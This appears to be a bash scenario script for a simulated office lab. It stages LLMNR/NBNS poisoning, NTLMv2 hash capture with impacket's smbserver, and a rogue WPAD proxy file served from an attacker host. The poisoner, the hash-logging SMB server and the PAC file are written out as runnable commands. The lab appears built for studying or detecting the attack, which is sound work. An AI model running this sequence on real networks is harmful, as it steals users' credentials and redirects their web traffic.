# sourced by run-scenario.sh: the story played between the hosts
# LLMNR/NBNS poisoning and NTLMv2 hash capture, as Responder does it. A small Windows-style office:
# workstation WS-ALICE (smbclient, nmbd, LLMNR queries from tools/llmnr.py), the real file server FILESRV
# (Samba smbd + nmbd, workgroup CORP, share `share`, users alice and bob), a second workstation WS-BOB,
# the site's DNS (dnsmasq: knows nothing of FILESRV, so the workstations fall back to NetBIOS broadcast).
# The attacker runs tools/name-poisoner.py (answers EVERY NBNS name query and EVERY LLMNR query with
# its own address, 50 ms after the query) and impacket's smbserver (-smb2support), which logs the
# NTLMv2 hashes of whoever connects, plus a web server handing out a wpad.dat. Alice mistypes the file
# server's name twice: only the poisoner answers, and smbclient authenticates to it with NTLMv2.
NET=172.31.224; ATT=66; VIC=10; CLI=23; DNS=2; SHELLPORT=0; MORE_HOSTS="fs:20"
DNSMASQ_EXTRA="--domain-needed"          # bare names (FILESRV) get "not found", not REFUSED
ALICE_PW='Summer2026!'; BOB_PW='Autumn#Leaves7'
IMP=/usr/share/doc/python3-impacket/examples
source "$HERE/lib/netbios-office.sh"
services() {
  office_hosts
  smb_conf fs FILESRV server; smb_conf vic WS-ALICE client; smb_conf cli WS-BOB client
  printf '%s\n%s\n' "$ALICE_PW" "$ALICE_PW" | nsx fs smbpasswd -c "$RUN/smb-fs/smb.conf" -s -a alice >"$RUN/logs/smbpasswd.log" 2>&1
  printf '%s\n%s\n' "$BOB_PW" "$BOB_PW" | nsx fs smbpasswd -c "$RUN/smb-fs/smb.conf" -s -a bob >>"$RUN/logs/smbpasswd.log" 2>&1
  mkdir -p "$RUN/loot" "$RUN/wpad"; chmod 777 "$RUN/loot"
  printf 'function FindProxyForURL(url, host) {\n  if (isPlainHostName(host)) return "DIRECT";\n  return "PROXY %s:3128; DIRECT";\n}\n' $A > "$RUN/wpad/wpad.dat"
}
smbc() { # HOST LOG ARGS…: smbclient from a workstation with its own smb.conf (15 s at most)
  local h=$1 log=$2; shift 2
  { echo "### smbclient $*" | sed 's/%[^ ]*/%***/'; nsx $h timeout 15 smbclient -s "$RUN/smb-$h/smb.conf" "$@" 2>&1; echo "### exit $?"; } >>"$RUN/logs/$log" || true
}
nmbl() { local h=$1; shift; nsx $h timeout 10 nmblookup -s "$RUN/smb-$h/smb.conf" -B $NET.255 "$@" >>"$RUN/logs/nmblookup-$h.log" 2>&1 || true; }
play() {
  local F; F=$(addr fs)
  note "attacker $A (tools/name-poisoner.py: NBNS and LLMNR poisoner; impacket $(dpkg-query -W -f '${Version}' python3-impacket) smbserver -smb2support on 445; python http.server on 80 with wpad.dat); victim workstation WS-ALICE $V (user alice, password $ALICE_PW, domain/workgroup CORP); real file server FILESRV $F (Samba $(smbd -V | awk '{print $2}') smbd+nmbd, standalone, share 'share'); benign workstation WS-BOB $C (user bob); dns $D (corp.lan, knows nothing of FILESRV); every smb.conf: name resolve order = host bcast"
  note "0 the file server starts nmbd (registers FILESRV<00><03><20> and CORP<00><1e> by broadcast, becomes the local master browser) and smbd; the workstations start nmbd (register WS-ALICE, WS-BOB)"
  local pids=()
  nsx fs timeout 95 nmbd --foreground --no-process-group -s "$RUN/smb-fs/smb.conf" -l "$RUN/logs/samba-fs" >/dev/null 2>&1 & pids+=($!)
  nsx fs timeout 95 smbd --foreground --no-process-group -s "$RUN/smb-fs/smb.conf" -l "$RUN/logs/samba-fs" >/dev/null 2>&1 & pids+=($!)
  for h in vic cli; do nsx $h timeout 95 nmbd --foreground --no-process-group -s "$RUN/smb-$h/smb.conf" -l "$RUN/logs/samba-$h" >/dev/null 2>&1 & pids+=($!); done
  sleep 12
  note "1 alice works normally: smbclient //FILESRV/share -U alice -c 'ls; cd Finance; get budget-notes.txt': DNS FILESRV.corp.lan and FILESRV (not found), NBNS broadcast query FILESRV<20>, answered by the real server; SMB2/3 with NTLMSSP (alice, CORP, WS-ALICE) to $F:445"
  ( cd "$RUN" && smbc vic smbclient-alice.log //FILESRV/share -U "alice%$ALICE_PW" -c "ls; cd Finance; get budget-notes.txt $RUN/budget-alice.txt" )
  sleep 2
  note "1b bob (benign, WS-BOB $C): nmblookup FILESRV (broadcast, answered by the real server), smbclient //FILESRV/share -U bob -c ls"
  nmbl cli FILESRV
  smbc cli smbclient-bob.log //FILESRV/share -U "bob%$BOB_PW" -c "ls"
  sleep 5
  note "2 the attacker starts the poisoner (answers every NBNS name query and every LLMNR A query with $A, 50 ms after it), impacket smbserver (-smb2support, share LOOT) on $A:445 and a web server with wpad.dat on $A:80"
  nsx att timeout 75 /usr/bin/python3 "$HERE/tools/name-poisoner.py" $A 70 KALI 0.05 >"$RUN/logs/poisoner.log" 2>&1 & pids+=($!)
  nsx att timeout -s INT 75 /usr/bin/python3 $IMP/smbserver.py -smb2support -ip $A -comment 'Files' LOOT "$RUN/loot" >"$RUN/logs/impacket-smbserver.log" 2>&1 & pids+=($!)
  nsx att timeout 75 /usr/bin/python3 -m http.server 80 --bind $A --directory "$RUN/wpad" >"$RUN/logs/wpad-http.log" 2>&1 & pids+=($!)
  sleep 5
  note "3 alice mistypes: smbclient //FILESRVV/share, then //FILESERVER-OLD/share: DNS not found, NBNS broadcast queries answered only by the poisoner ($A); smbclient connects to $A:445 and sends an NTLMSSP AUTHENTICATE with alice's NTLMv2 response (impacket logs the hash)"
  smbc vic smbclient-alice.log //FILESRVV/share -U "alice%$ALICE_PW" -c "ls"
  sleep 5
  smbc vic smbclient-alice.log //FILESERVER-OLD/share -U "alice%$ALICE_PW" -c "ls"
  sleep 5
  note "4 alice's browser looks for a proxy: DNS wpad.corp.lan (NXDOMAIN), LLMNR wpad and printsrv (answered by the poisoner with $A), then GET http://wpad/wpad.dat from the poisoned address (the attacker's PAC file names $A:3128 as proxy)"
  nsx vic dig +tries=1 +time=2 @$D wpad.corp.lan >"$RUN/logs/dig-wpad.log" 2>&1 || true
  nsx vic timeout 10 /usr/bin/python3 "$HERE/tools/llmnr.py" query $V wpad printsrv >"$RUN/logs/llmnr-vic.log" 2>&1 || true
  local W; W=$(awk '$1=="wpad" {print $3}' "$RUN/logs/llmnr-vic.log")
  if [[ "$W" =~ ^[0-9.]+$ ]]; then
    nsx vic timeout 10 curl -s -A 'WinHttp-Autoproxy-Service/5.1' --resolve wpad:80:$W -o "$RUN/wpad-got.dat" http://wpad/wpad.dat >"$RUN/logs/curl-wpad.log" 2>&1 || true
  fi
  sleep 5
  note "5 alice opens the real //FILESRV/share again: the NBNS broadcast query FILESRV<20> gets two answers, the real server's ($F) and 50 ms later the poisoner's ($A)"
  ( cd "$RUN" && smbc vic smbclient-alice.log //FILESRV/share -U "alice%$ALICE_PW" -c "ls; get README.txt $RUN/readme-alice.txt" )
  sleep 5
  note "6 bob (benign) meanwhile: nmblookup FILESRV (two answers: $F and $A), smbclient //FILESRV/share -U bob -c 'ls; put bob-notes.txt' (NBNS FILESRV<20>: the real server answers first)"
  nmbl cli FILESRV
  printf 'notes from bob\n' > "$RUN/bob-notes.txt"
  ( cd "$RUN" && smbc cli smbclient-bob.log //FILESRV/share -U "bob%$BOB_PW" -c "ls; put bob-notes.txt" )
  sleep 12
  note "7 end: the hashes impacket logged: $(grep -c '::' "$RUN/logs/impacket-smbserver.log" 2>/dev/null || echo 0) NTLMv2 lines; the poisoner sent $(grep -c 'poisoned answer' "$RUN/logs/poisoner.log" 2>/dev/null || echo 0) answers"
}
